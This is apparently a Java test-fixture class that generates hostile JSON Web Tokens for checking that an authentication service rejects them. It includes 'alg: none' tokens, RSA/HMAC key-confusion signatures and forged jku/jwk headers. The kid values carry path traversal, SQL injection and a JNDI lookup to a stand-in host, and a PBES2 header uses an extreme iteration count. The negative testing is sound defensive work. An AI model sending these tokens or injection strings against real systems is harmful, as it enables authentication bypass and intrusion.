package ai.pathbound.identities.auth;

import ai.pathbound.identities.Tokens;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.Signature;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.json.JsonUtil;
import org.jose4j.jwe.JsonWebEncryption;
import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
import org.jose4j.jwk.PublicJsonWebKey;
import org.jose4j.lang.JoseException;

/** Every token that must not let anybody in, by what is wrong with it. */
final class HostileTokens {
  private static final Base64.Encoder BASE64 = Base64.getUrlEncoder().withoutPadding();
  private static final PublicJsonWebKey RSA = TokenKeys.rsa();

  private final Map<String, String> tokens = new LinkedHashMap<>();

  private HostileTokens() {}

  /** All of them. */
  static Map<String, String> all() {
    try {
      HostileTokens made = new HostileTokens();
      made.claims();
      made.payloads();
      made.types();
      made.algorithms();
      made.confusions();
      made.keys();
      made.critical();
      made.shapes();
      made.encrypted();
      return made.tokens;
    } catch (GeneralSecurityException | JoseException e) {
      throw new IllegalStateException(e);
    }
  }

  static Map<String, Object> goodHeader() {
    return new HashMap<>(Map.of("alg", "RS256", "typ", "at+jwt", "kid", "r"));
  }

  static Map<String, Object> goodClaims() {
    long now = Instant.now().getEpochSecond();
    return new HashMap<>(
        Map.of(
            "iss",
            Tokens.ISSUER,
            "aud",
            Tokens.AUDIENCE,
            "iat",
            now,
            "exp",
            now + 3600,
            "tenant_id",
            "acme",
            "sub",
            "ada",
            "scope",
            Tokens.BOTH));
  }

  private void add(String name, String token) {
    if (tokens.put(name, token) != null) {
      throw new IllegalStateException("twice: " + name);
    }
  }

  private void claim(String name, Object value) {
    Map<String, Object> claims = goodClaims();
    claims.put(name, value);
    add(name + " = " + value, TokenKeys.sign(RSA, goodHeader(), claims));
  }

  private void header(String name, Consumer<Map<String, Object>> spoil) {
    Map<String, Object> header = goodHeader();
    spoil.accept(header);
    add(name, TokenKeys.sign(RSA, header, goodClaims()));
  }

  private void claims() {
    long now = Instant.now().getEpochSecond();
    for (String name : List.of("iss", "aud", "exp", "iat", "sub", "tenant_id")) {
      Map<String, Object> claims = goodClaims();
      claims.remove(name);
      add("no " + name, TokenKeys.sign(RSA, goodHeader(), claims));
      claim(name, null);
    }
    for (String name : List.of("sub", "tenant_id")) {
      for (Object bad :
          Arrays.asList("", "  ", 5, true, "a\u0000b", "x".repeat(256), List.of("a"), Map.of())) {
        claim(name, bad);
      }
    }
    for (Object bad : List.of("https://elsewhere.invalid", Tokens.ISSUER + "/", 5, "", List.of())) {
      claim("iss", bad);
    }
    claim("iss", Tokens.ISSUER.toUpperCase(java.util.Locale.ROOT));
    for (Object bad : List.of("another", "Identities", "", 5, List.of(), List.of("a", "b"))) {
      claim("aud", bad);
    }
    for (Object bad : List.of(1, -1, now - 30, "soon", true, Map.of())) {
      claim("exp", bad);
    }
    for (Object bad : List.of(99_999_999_999L, now + 60, "later", List.of())) {
      claim("nbf", bad);
    }
    claim("iat", "now");
    claim("iat", now + 7200);
  }

  private void payloads() throws GeneralSecurityException {
    String good = JsonUtil.toJson(goodClaims());
    String header = JsonUtil.toJson(goodHeader());
    add("payload no JSON", signed(header, "hello"));
    add("payload an array", signed(header, "[" + good + "]"));
    add("payload a text", signed(header, "\"" + BASE64.encodeToString(bytes(good)) + "\""));
    add("payload null", signed(header, "null"));
    add("payload with more behind it", signed(header, good + "{}"));
    add("payload cut", signed(header, good.substring(0, good.length() - 1)));
    add("two tenants", signed(header, good.replaceFirst("\\{", "{\"tenant_id\":\"other\",")));
    add("two subjects", signed(header, good.replaceFirst("\\{", "{\"sub\":\"root\",")));
    add("payload no UTF-8", signed(header, new byte[] {'{', '"', (byte) 0xff, '"', ':', '1', '}'}));
    add("two algorithms", signed(header.replaceFirst("\\{", "{\"alg\":\"none\","), bytes(good)));
    add("header an array", signed("[" + header + "]", good));
    add("header no JSON", signed("RS256", good));
  }

  private void types() {
    for (Object type : List.of("dpop+jwt", "logout+jwt", "id_token", "", "JOSE", 5, List.of())) {
      header("typ " + type, h -> h.put("typ", type));
    }
  }

  private void algorithms() throws GeneralSecurityException {
    String payload = encoded(JsonUtil.toJson(goodClaims()));
    for (String none : List.of("none", "None", "NONE", "nOnE", "")) {
      String head = encoded(JsonUtil.toJson(Map.of("alg", none, "typ", "at+jwt", "kid", "r")));
      add("alg '" + none + "' unsigned", head + "." + payload + ".");
      add("alg '" + none + "' signed", head + "." + payload + ".AAAA");
    }
    for (String alg : List.of("RS384", "RS512", "PS384", "PS512")) {
      header("alg " + alg, h -> h.put("alg", alg));
    }
    for (Object alg :
        Arrays.asList("rs256", "RS256 ", "ES256K", "dir", 5, null, List.of("RS256"))) {
      Map<String, Object> header = goodHeader();
      header.put("alg", alg);
      add("alg odd " + alg, signed(JsonUtil.toJson(header), JsonUtil.toJson(goodClaims())));
    }
    add("no alg", signed("{\"typ\":\"at+jwt\",\"kid\":\"r\"}", JsonUtil.toJson(goodClaims())));
  }

  /** The public key taken for a shared secret, and one type of key for another. */
  private void confusions() throws GeneralSecurityException {
    byte[] der = RSA.getPublicKey().getEncoded();
    String pem = Base64.getMimeEncoder(64, bytes("\n")).encodeToString(der);
    Map<String, byte[]> secrets =
        Map.of(
            "DER",
            der,
            "PEM",
            bytes("-----BEGIN PUBLIC KEY-----\n" + pem + "\n-----END PUBLIC KEY-----\n"),
            "JWK",
            bytes(RSA.toJson(OutputControlLevel.PUBLIC_ONLY)),
            "empty",
            new byte[] {0});
    for (Map.Entry<String, byte[]> secret : secrets.entrySet()) {
      for (String bits : List.of("256", "384", "512")) {
        Map<String, Object> header = goodHeader();
        header.put("alg", "HS" + bits);
        String input =
            encoded(JsonUtil.toJson(header)) + "." + encoded(JsonUtil.toJson(goodClaims()));
        Mac mac = Mac.getInstance("HmacSHA" + bits);
        mac.init(new SecretKeySpec(secret.getValue(), "HMAC"));
        add(
            "HS" + bits + " under the public key as " + secret.getKey(),
            input + "." + BASE64.encodeToString(mac.doFinal(bytes(input))));
      }
    }
    for (Map.Entry<String, String> pair :
        Map.of("ES256", "r", "EdDSA", "e", "RS256", "d", "PS256", "e").entrySet()) {
      Map<String, Object> header = goodHeader();
      header.put("alg", pair.getKey());
      header.put("kid", pair.getValue());
      add(
          pair.getKey() + " with the key " + pair.getValue(),
          signed(JsonUtil.toJson(header), JsonUtil.toJson(goodClaims())));
    }
    Map<String, Object> curve = goodHeader();
    curve.putAll(Map.of("alg", "ES256", "kid", "e"));
    String input = encoded(JsonUtil.toJson(curve)) + "." + encoded(JsonUtil.toJson(goodClaims()));
    add("ES256 signed by zeros", input + "." + BASE64.encodeToString(new byte[64]));
    Signature ecdsa = Signature.getInstance("SHA256withECDSA");
    ecdsa.initSign(TokenKeys.ec().getPrivateKey());
    ecdsa.update(bytes(input));
    add("ES256 signed in DER", input + "." + BASE64.encodeToString(ecdsa.sign()));
  }

  private void keys() throws JoseException {
    PublicJsonWebKey stranger = TokenKeys.stranger("r");
    Map<String, Object> publicHalf = stranger.toParams(OutputControlLevel.PUBLIC_ONLY);
    Map<String, Object> tempting =
        Map.of(
            "jwk",
            publicHalf,
            "jku",
            "https://elsewhere.invalid/keys",
            "x5u",
            "https://elsewhere.invalid/chain",
            "x5c",
            List.of("MIIB"));
    add("a stranger's", TokenKeys.sign(stranger, goodHeader(), goodClaims()));
    tempting.forEach(
        (name, value) -> {
          Map<String, Object> header = goodHeader();
          header.put(name, value);
          add("a stranger's with " + name, TokenKeys.sign(stranger, header, goodClaims()));
          header.remove("kid");
          add(
              "a stranger's with " + name + ", no kid",
              TokenKeys.sign(stranger, header, goodClaims()));
        });
    for (String kid :
        List.of(
            "unknown",
            "",
            " ",
            "R",
            "../../../../dev/null",
            "/dev/null",
            "r\u0000",
            "r' or '1'='1",
            "https://elsewhere.invalid/keys",
            "e",
            "d",
            "${jndi:ldap://elsewhere.invalid/a}")) {
      header("kid " + kid, h -> h.put("kid", kid));
    }
    header("no kid among several keys", h -> h.remove("kid"));
    header("kid a number", h -> h.put("kid", 5));
    header("kid an object", h -> h.put("kid", Map.of("r", 1)));
  }

  private void critical() {
    header("crit unknown", h -> h.putAll(Map.of("crit", List.of("x"), "x", 1)));
    header("crit exp", h -> h.putAll(Map.of("crit", List.of("exp"), "exp", 1)));
  }

  private void shapes() throws GeneralSecurityException {
    String good = TokenKeys.sign(RSA, goodHeader(), goodClaims());
    Map<String, Object> others = goodClaims();
    others.put("tenant_id", "other");
    String[] one = good.split("\\.");
    String[] other = TokenKeys.sign(RSA, goodHeader(), others).split("\\.");
    add("another's payload", one[0] + "." + other[1] + "." + one[2]);
    add("another's signature", one[0] + "." + one[1] + "." + other[2]);
    add("no signature", one[0] + "." + one[1] + ".");
    add("two parts", one[0] + "." + one[1]);
    add("half a signature", one[0] + "." + one[1] + "." + one[2].substring(0, 100));
    add(
        "one bit off",
        one[0] + "." + one[1] + "." + (one[2].charAt(0) == 'A' ? 'B' : 'A') + one[2].substring(1));
    add("padded", good + "==");
    add("a dot more", good + ".");
    add("a part more", good + ".AAAA");
    add(
        "a star in it",
        good.substring(0, good.length() - 9) + "*" + good.substring(good.length() - 9));
    add("no token", "x");
    add("letters", "a.b.c");
    add("dots", "..");
    add("empty objects", "e30.e30.e30");
    add("a token in a token", signed(JsonUtil.toJson(goodHeader()), good));
  }

  private void encrypted() throws JoseException {
    JsonWebEncryption jwe = new JsonWebEncryption();
    jwe.setAlgorithmHeaderValue("RSA-OAEP-256");
    jwe.setEncryptionMethodHeaderParameter("A256GCM");
    jwe.setHeader("typ", "at+jwt");
    jwe.setHeader("kid", "r");
    jwe.setKey(RSA.getPublicKey());
    jwe.setPayload(JsonUtil.toJson(goodClaims()));
    add("encrypted to the public key", jwe.getCompactSerialization());
    String costly =
        "{\"alg\":\"PBES2-HS512+A256KW\",\"enc\":\"A256GCM\",\"p2c\":2147483647,\"p2s\":\"AAAAAAAAAAA\"}";
    add("encrypted by a costly password", encoded(costly) + ".AAAA.AAAAAAAAAAAAAAAA.AAAA.AAAA");
  }

  private static String signed(String header, String payload) throws GeneralSecurityException {
    return signed(header, bytes(payload));
  }

  /** RS256 under the trusted key, whatever header and payload are. */
  private static String signed(String header, byte[] payload) throws GeneralSecurityException {
    String input = encoded(header) + "." + BASE64.encodeToString(payload);
    Signature rsa = Signature.getInstance("SHA256withRSA");
    rsa.initSign(RSA.getPrivateKey());
    rsa.update(bytes(input));
    return input + "." + BASE64.encodeToString(rsa.sign());
  }

  private static String encoded(String text) {
    return BASE64.encodeToString(bytes(text));
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
